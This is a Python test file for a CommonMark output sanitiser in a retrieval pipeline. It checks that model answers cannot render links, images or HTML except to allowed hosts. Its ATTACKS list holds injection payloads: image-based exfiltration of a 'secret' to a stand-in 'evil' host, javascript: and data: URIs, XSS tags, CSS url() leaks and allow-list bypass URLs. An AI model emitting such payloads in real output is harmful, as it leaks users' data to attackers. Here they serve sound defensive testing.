"""Nothing in an answer loads, links or runs, whatever the model wrote: judged by a CommonMark implementation."""

import re
from collections.abc import Iterable
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ragstone.pipelines.active_content import LONGEST_DESTINATION, Neutraliser, neutralise, revealed

HOSTS = frozenset({"docs.example.com", "localhost:8080"})
OWN_MARK = re.compile(r"\[\d{1,4}\]:")
ACTIVE_TOKENS = {"link_open", "image", "html_inline", "html_block"}

ATTACKS = [
    "![x](http://evil/?q=secret)",
    "[x](http://evil)",
    "[x](<http://evil>)",
    "[x]( http://evil )",
    '[x](http://evil "title")',
    "[x](//evil/path)",
    "[x](/local)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[![x](http://evil/a.png)](http://evil/b)",
    "[a[b]c](http://evil)",
    "[a\\](b](http://evil)",
    "\\[x](http://evil)",
    "\\![x](http://evil)",
    "[x](\nhttp://evil)",
    "[x\ny](http://evil)",
    "[x]: http://evil\n\n[x]",
    "[x]:\nhttp://evil\n\n![x]",
    "   [x]: <http://evil> 'title'\n\n![a][x]",
    "> [x]: http://evil\n\n[x][]",
    "- [x]: http://evil\n\n[x]",
    "1. [x]: http://evil\n\n[x]",
    "[1]: http://evil",
    "text\n\n[1]: http://evil/?q=secret\n\n![1]",
    "> - 3. [1]: http://evil\n\n![1]",
    "[x\ny]: http://evil\n\n[x y]",
    "[x][1]: http://evil\n\n[1]",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG\nSRC=http://evil>",
    "</p><style>*{background:url(http://evil)}</style>",
    "<http://evil/?q=secret>",
    "<who@evil.example>",
    "<!-- --><a href=http://evil>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<![CDATA[<b>]]>",
    "\\\\<a href=http://evil>",
    "\\<\\<a href=http://evil>",
    "<<a href=http://evil>>",
    "a\n<div onclick=x>\n",
    "![x](http://docs.example.com.evil/)",
    "![x](http://docs.example.com@evil/)",
    "![x](http://user:word@docs.example.com/)",
    "![x](http://docs.example.com\\@evil/)",
    "![x](http:\\\\docs.example.com/)",
    "![x](http://evil/docs.example.com)",
    "![x](http://evil?docs.example.com)",
    "![x](ftp://docs.example.com/)",
    "![x](http://docs.example.com:81/)",
    "![x](http://docs.example.com&#64;evil/)",
    "![x](http://docs.example.com&commat;evil/)",
    "![x](http://docs.example.com\t/)",
    "![x](http://docs.example.com\u3002evil/)",
    "![x](http://xdocs.example.com/)",
    "![x](http:docs.example.com/)",
    "![x](http:///docs.example.com/)",
    f"![x](http://docs.example.com/{'a' * LONGEST_DESTINATION})",
]

markdown = st.lists(
    st.sampled_from(
        [*"[]()<>!:#\"'\\ \n\t*>-|`&;/ab1.9x", "http://evil", "](", "]:", "<a", "[1]", "](#a)", "&lt;"]
    )
).map("".join)
linked = st.lists(
    st.sampled_from(
        [
            *("[x](", "![y](", "http://docs.example.com", "HTTPS://", "docs.example.com", "localhost:8080"),
            *("evil", "[1]:", "www "),
            *"/@?#:[]()<>\\ \n",
        ]
    )
).map("".join)


def active_tokens(shown: str) -> list[Token]:
    """What a reader of CommonMark would link, load or run; links within the page are none of it."""
    env: dict[str, object] = {}
    blocks = MarkdownIt("commonmark").parse(shown, env)
    assert not env.get("references"), env
    tokens = [token for block in blocks for token in (block, *(block.children or ()))]
    active = [token for token in tokens if token.type in ACTIVE_TOKENS]
    return [token for token in active if not str(target(token)).startswith("#")]


def target(token: Token) -> object:
    return token.attrGet("href") or token.attrGet("src") or ""


def streamed(pieces: Iterable[str], hosts: frozenset[str] = frozenset()) -> str:
    neutraliser = Neutraliser(hosts)
    return "".join([*(neutraliser.feed(piece) for piece in pieces), neutraliser.finish()])


def cut(text: str, places: list[int]) -> list[str]:
    bounds = [0, *sorted(place % (len(text) + 1) for place in places), len(text)]
    return [text[start:end] for start, end in pairwise(bounds)]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("hosts", [frozenset(), HOSTS], ids=["no hosts", "hosts"])
def test_an_attack_becomes_text(attack: str, hosts: frozenset[str]) -> None:
    shown = neutralise(f"{attack}\n\n[x][1] ![x] [1]", hosts)

    assert active_tokens(shown) == []
    assert revealed(shown).startswith(attack)


@given(markdown)
def test_no_text_of_markdown_is_active(text: str) -> None:
    shown = neutralise(text)

    assert active_tokens(shown) == []
    assert not re.search(r"\]\((?!#)|<[A-Za-z/!?]", shown)
    assert "]:" not in OWN_MARK.sub("", shown)


@given(linked)
def test_links_lead_to_allowed_hosts_only(text: str) -> None:
    for token in active_tokens(neutralise(text, HOSTS)):
        assert re.match(
            r"https?://(?:docs\.example\.com|localhost:8080)(?:[/?#]|\Z)", str(target(token)), re.I
        )


@given(st.one_of(markdown, linked), st.lists(st.integers(0, 400)), st.sampled_from([frozenset[str](), HOSTS]))
@settings(max_examples=300)
def test_however_a_text_is_cut_the_whole_is_the_same(
    text: str, places: list[int], hosts: frozenset[str]
) -> None:
    assert streamed(cut(text, places), hosts) == neutralise(text, hosts) == streamed(text, hosts)


@pytest.mark.parametrize(
    "text",
    [
        "a < b and b > c, x <3, 1<2",
        "f[0] (see above)",
        "Note: [x] and [1][2], then (more).",
        "According to the manual [1]: first the lid.",
        "Wie im Handbuch [12]: zuerst der Deckel.",
        "[up](#top)",
        "[x]\n(y)",
        "&lt;b>",
    ],
)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<b>x</b>", "&lt;b>x&lt;/b>"),
        ("![x](http://evil)", "![x] (http://evil)"),
        ("[x]: y", "[x] : y"),
        ("[1]: y", "[1] : y"),
        ("> 1. [1]: y", "> 1. [1] : y"),
        ("iv. [1]: y", "iv. [1] : y"),
        ("- [x] [1]: y", "- [x] [1] : y"),
        ("Says it\n[1]: y", "Says it\n[1] : y"),
        ("Says it\u2028[1]: y", "Says it\u2028[1] : y"),
        (f"Says it{' ' * 300}[1]: y", f"Says it{' ' * 300}[1] : y"),
        ("Says it [12345]: y", "Says it [12345] : y"),
    ],
)
def test_what_is_changed_is_changed_as_little_as_possible(text: str, shown: str) -> None:
    assert neutralise(text) == shown
    assert revealed(shown) == revealed(text)


@pytest.mark.parametrize(
    "link",
    [
        "[x](https://docs.example.com)",
        "![x](http://docs.example.com/a/b.png?c=d&e=%20#f)",
        "[x](HTTPS://DOCS.example.com/@a:b)",
        "[x](http://localhost:8080/)",
    ],
)
def test_links_to_allowed_hosts_are_kept(link: str) -> None:
    assert neutralise(link, HOSTS) == link
    assert streamed(link, HOSTS) == link
    assert neutralise(link) != link


def test_without_hosts_at_most_one_character_is_held_back() -> None:
    neutraliser = Neutraliser()

    assert [neutraliser.feed(piece) for piece in ("a<", "b]", "(", "h", "]", ":")] == [
        "a",
        "&lt;b]",
        "",
        " (h",
        "]",
        " :",
    ]


def test_a_destination_is_held_back_up_to_a_bound() -> None:
    neutraliser = Neutraliser(HOSTS)
    pieces = ["[x](http://docs.example.com/", *["a"] * (LONGEST_DESTINATION + 1)]

    shown = [neutraliser.feed(piece) for piece in pieces]

    assert shown[:2] == ["[x]", ""]
    assert len("".join(shown)) > LONGEST_DESTINATION
    assert "".join(shown).startswith("[x] (http://")


def test_what_is_held_back_at_the_end_is_shown() -> None:
    assert (neutralise("a <"), neutralise("[x]("), neutralise("[x](http://d", HOSTS)) == (
        "a <",
        "[x] (",
        "[x] (http://d",
    )
